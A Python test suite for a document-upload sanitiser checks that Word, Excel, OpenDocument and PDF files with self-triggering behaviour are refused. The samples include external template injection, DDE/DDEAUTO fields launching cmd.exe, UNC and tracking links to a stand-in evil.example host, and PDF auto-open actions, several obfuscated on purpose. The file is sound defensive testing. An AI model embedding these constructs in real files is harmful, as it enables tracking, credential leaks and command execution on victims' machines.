"""Whatever would fetch, run or open something by itself is refused, in whichever way it is written."""

from __future__ import annotations

import contextlib
import time

import pytest

from portal.files.going_through import gone_through
from portal.files.sentences import BROKEN, LOCKED, MACROS, OUTSIDE, PACKED, Unsafe
from tests.files.by_hand import (
    OFFICE,
    STRICT,
    document,
    open_document,
    portable,
    related,
    stream,
    words,
    workbook,
)
from tests.files.samples import TYPES, zipped


def external(sort: str, target: str = "http://evil.example/t", *, mode: str = "External", of: str = OFFICE) -> str:
    told = f"Id='r' Type='{of}/{sort}' Target='{target}' TargetMode='{mode}'"
    return f"<Relationships><Relationship {told}/></Relationships>"


def field(*pieces: str) -> bytes:
    """A field whose instruction is cut into pieces."""
    inside = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return words(f"<w:p>{BEGIN}{inside}{END}</w:p>")


BEGIN, END = "<w:fldChar w:fldCharType='begin'/>", "<w:fldChar w:fldCharType='end'/>"
DOCUMENTS: dict[str, tuple[bytes, str]] = {
    "in single quotes": (related(external("attachedTemplate")), OUTSIDE),
    "in numbers": (related(external("attached&#84;emplate", mode="Exter&#110;al")), OUTSIDE),
    "in another order": (
        related(f'<R><Relationship TargetMode="External" Type="{OFFICE}/attachedTemplate" Target="x"/></R>'),
        OUTSIDE,
    ),
    "with a prefix": (
        related(external("attachedTemplate").replace("<Rel", "<p:Rel").replace("</Rel", "</p:Rel")),
        OUTSIDE,
    ),
    "of the strict kind": (related(external("attachedTemplate", of=STRICT)), OUTSIDE),
    "in sixteen bits": (related(external("attachedTemplate").encode("utf-16")), OUTSIDE),
    "in sixteen bits without a mark": (related(external("attachedTemplate").encode("utf-16-le")), OUTSIDE),
    "in seven bits": (
        related("<?xml version='1.0' encoding='utf-7'?>" + external("hyperlink")),
        BROKEN,
    ),
    "an object": (related(external("oleObject")), OUTSIDE),
    "a picture": (related(external("image", "http://evil.example/track.png")), OUTSIDE),
    "a picture of another machine": (related(external("image", "\\\\evil.example\\s\\a.png")), OUTSIDE),
    "a picture that isn't said to be outside": (
        related(external("image", "http://evil.example/a.png", mode="Internal")),
        OUTSIDE,
    ),
    "a frame": (related(external("frame")), OUTSIDE),
    "a part of a document": (related(external("subDocument")), OUTSIDE),
    "a link that is none": (related(external("hyperlink", "ms-its:x.chm::/a.htm")), OUTSIDE),
    "a link that runs": (related(external("hyperlink", "javascript:x")), MACROS),
    "an object of another name": (related(external("oleObject", "a.dat", mode="Internal")), PACKED),
    "macros of another name": (related(external("vbaProject", "a.dat", mode="Internal")), MACROS),
    "DDE": (field(' DDE "c:\\\\windows\\\\cmd.exe" "/k calc"'), OUTSIDE),
    "DDEAUTO": (field("DDEAUTO c:\\\\cmd.exe"), OUTSIDE),
    "DDEAUTO in pieces": (field("DDE", "AUTO c:\\\\windows"), OUTSIDE),
    "DDE in numbers": (field("&#68;D&#69; x"), OUTSIDE),
    "DDE in small letters": (field("dde x"), OUTSIDE),
    "DDE without a beginning": (words("<w:instrText>DD</w:instrText><w:instrText>E x</w:instrText>"), OUTSIDE),
    "DDE of a simple field": (words("<w:fldSimple w:instr=' DDEAUTO x'/>"), OUTSIDE),
    "DDE with another prefix": (words("<x:fldSimple x:instr=' DDEAUTO x'/>"), OUTSIDE),
    "a field that names a field": (
        words(f"{BEGIN}{BEGIN}<w:instrText>QUOTE DDE</w:instrText>{END}<w:instrText> x</w:instrText>{END}"),
        OUTSIDE,
    ),
    "DDE within a field": (
        words(f"{BEGIN}<w:instrText>IF </w:instrText>{BEGIN}<w:instrText>DDE x</w:instrText>{END}{END}"),
        OUTSIDE,
    ),
    "a picture of a field": (field('INCLUDEPICTURE "http://evil.example/a.png" \\d'), OUTSIDE),
    "a picture of old Word": (words("<v:imagedata src='http://evil.example/a.png'/>"), OUTSIDE),
    "no XML": (document(word__styles_DOT_xml=b"\x8f\x01" * 100), BROKEN),
    "a part that is called something else": (document(word__main_DOT_dat="<w:fldSimple w:instr='DDE x'/>"), OUTSIDE),
    "macros by their type in numbers": (
        zipped(
            {
                "[Content_Types].xml": b"<Types><Override PartName='/a' ContentType='x.macro&#69;nabled'/></Types>",
                "word/document.xml": b"<w/>",
            }
        ),
        MACROS,
    ),
}
TABLES = {
    "DDE": (workbook("", xl__x_DOT_xml="<x:ddeLink/>"), OUTSIDE),
    "asked as it opens": (workbook("", xl__connections_DOT_xml="<c><connection refreshOnLoad='1'/></c>"), OUTSIDE),
    "another workbook": (
        workbook("", xl__externalLinks___rels__a_DOT_xml_DOT_rels=external("externalLinkPath", "file:///C:/x.xlsx")),
        OUTSIDE,
    ),
    "a password": (workbook("<e:encryption />"), LOCKED),
}
OPEN = {
    "a picture": (open_document("<draw:image xlink:href='http://evil.example/a.png'/>"), OUTSIDE),
    "a picture with another prefix": (open_document("<d:image x:href='//evil.example/a.png'/>"), OUTSIDE),
    "a picture outside": (open_document("<draw:image xlink:href='../a.png'/>"), OUTSIDE),
    "a part of another": (open_document("<text:section-source xlink:href='file:///a.odt'/>"), OUTSIDE),
    "DDE": (open_document("<text:dde-connection-decl office:dde-application='x'/>"), OUTSIDE),
    "a link that runs": (open_document("<text:a xlink:href='vnd.sun.&#115;tar.script:x'/>"), MACROS),
    "what waits for something": (open_document("<s:event-listener/>"), MACROS),
    "a template of another machine": (
        open_document("", meta="<meta:template xlink:href='http://evil.example/t'/>"),
        OUTSIDE,
    ),
    "another, after a moment": (
        open_document("", meta="<meta:auto-reload xlink:href='http://evil.example/'/>"),
        OUTSIDE,
    ),
}
ASKS = r"/F(\\\\evil.example\\s\\a.pdf)/D[0/Fit]"
PORTABLE = {
    "opens another": (portable(f"/OpenAction<</S/GoToR{ASKS}>>"), OUTSIDE),
    "opens another when pressed": (portable("", f"<</Subtype/Link/A<</S/GoToR{ASKS}>>>>"), OUTSIDE),
    "asks a page": (portable("/OpenAction<</S/URI/URI(http://evil.example/)>>"), OUTSIDE),
    "asks a page, elsewhere": (
        portable("/OpenAction 4 0 R", "<</S 5 0 R/URI(http://evil.example/)>>", "/URI"),
        OUTSIDE,
    ),
    "asks a page after another": (
        portable("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://evil.example/)>>]>>"),
        OUTSIDE,
    ),
    "asks when the page opens": (portable(page="/AA<</O<</S/URI/URI(http://evil.example/)>>>>"), OUTSIDE),
    "asks when it is closed": (portable("/AA 4 0 R", "<</WC 5 0 R>>", "<</S/URI/URI(http://evil.example/)>>"), OUTSIDE),
    "asks from a note": (
        portable("", "<</Subtype/Link/Rect[0 0 9 9]/AA<</PV<</S/URI/URI(http://evil.example/)>>>>>>"),
        OUTSIDE,
    ),
    "prints itself": (portable("/OpenAction<</S/Named/N/Print>>"), OUTSIDE),
    "opens what is in it": (portable("/OpenAction<</S/GoToE/T<</R/C/N(x)>>>>"), OUTSIDE),
    "plays": (portable("/OpenAction<</S/Rendition/OP 0>>"), OUTSIDE),
    "runs, elsewhere": (portable("/OpenAction<</S 4 0 R>>", "/Launch"), MACROS),
    "sends": (portable("", "<</Subtype/Link/A<</S/SubmitForm>>>>"), MACROS),
    "fetches": (portable("", "<</S/ImportData/F(x)>>"), MACROS),
    "is kept elsewhere": (portable("", stream("/F(http://evil.example/a)", b"x")), OUTSIDE),
    "turns round and round": (portable("/OpenAction 4 0 R", "<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>"), OUTSIDE),
}
HARM = [
    pytest.param(key, content, sentence, id=f"{key}: {name}")
    for key, group in (("docx", DOCUMENTS), ("xlsx", TABLES), ("odt", OPEN), ("pdf", PORTABLE))
    for name, (content, sentence) in group.items()
]


@pytest.mark.parametrize(("key", "content", "sentence"), HARM)
def test_what_does_something_by_itself_is_refused(key: str, content: bytes, sentence: str) -> None:
    with pytest.raises(Unsafe) as refused:
        gone_through(content, key, key, clean=False)
    assert refused.value.sentence == sentence


FINE = {
    "a link": ("docx", related(external("hyperlink", "https://example.org/"))),
    "a link of the strict kind": ("docx", related(external("hyperlink", "mailto:a@example.org", of=STRICT))),
    "a part": ("docx", related(external("image", "media/image1.png", mode="Internal"))),
    "fields": ("docx", field(" PAG", "E \\* MERGEFORMAT ")),
    "a field in a sum": (
        "docx",
        words(f"{BEGIN}<w:instrText>=</w:instrText>{BEGIN}<w:instrText>PAGE</w:instrText>{END}{END}"),
    ),
    "a picture that came with it": ("docx", field('INCLUDEPICTURE "cid:image001.png"')),
    "words of DDE": ("docx", words("<w:t>DDEAUTO is refused, and http://evil.example/ too</w:t>")),
    "a link of the open kind": ("odt", open_document("<text:a xlink:href='https://example.org/'/>")),
    "a picture in it": ("odt", open_document("<draw:image xlink:href='Pictures/1.png'/>")),
    "a chart of what is around it": ("odt", open_document("<chart:chart xlink:href='..'/>")),
    "the template it was made with": ("odt", open_document("", meta="<meta:template xlink:href='../../a.ott'/>")),
    "a place it opens at": ("pdf", portable("/OpenAction[3 0 R/Fit]")),
    "turning to a page": ("pdf", portable("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>")),
    "a link one presses": ("pdf", portable("", "<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://example.org/)>>>>")),
}


@pytest.mark.parametrize("name", FINE)
def test_what_does_nothing_is_kept_as_it_came(name: str) -> None:
    key, content = FINE[name]
    assert gone_through(content, key, key, clean=False) is content


@pytest.mark.parametrize(
    "inside",
    [
        b"<Relationship " * 20_000,
        b'TargetMode="External"' * 10_000,
        b'attachedTemplate"' * 10_000,
        b"<creator " * 20_000,
        b"<creator>" * 200_000,
        b"<R>" + b"<Relationship Type='x' Target='y'/>" * 30_000 + b"</R>",
        b"<R>" + b"<instrText>x</instrText>" * 60_000 + b"</R>",
        b"<R>" + b"<fldChar fldCharType='begin'/>" * 50_000 + b"</R>",
        b"<R " + b" ".join(b"a%d='x'" % number for number in range(50_000)) + b"/>",
    ],
)
@pytest.mark.parametrize("clean", [False, True])
def test_it_takes_no_longer_than_its_length(inside: bytes, clean: bool) -> None:
    content = zipped({"[Content_Types].xml": TYPES, "word/document.xml": inside})
    began = time.process_time()
    with contextlib.suppress(Unsafe):
        gone_through(content, "docx", "docx", clean=clean)
    assert time.process_time() - began < 2
